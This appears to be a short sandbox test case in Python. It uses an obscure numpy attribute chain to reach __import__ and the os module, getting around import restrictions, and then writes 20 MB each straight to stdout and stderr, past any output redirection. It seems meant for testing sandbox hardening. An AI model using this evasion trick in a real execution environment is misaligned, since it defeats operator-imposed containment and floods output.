# attempts: os.write(1, 20 MB) straight to file descriptor 1, past any redirect_stdout
# effect: output
B = np.random.bit_generator.re.enum.bltns
imp = B.getattr(B, '__import__')
osm = imp('os')
osm.write(1, b'C' * 20_000_000)
osm.write(2, b'D' * 20_000_000)
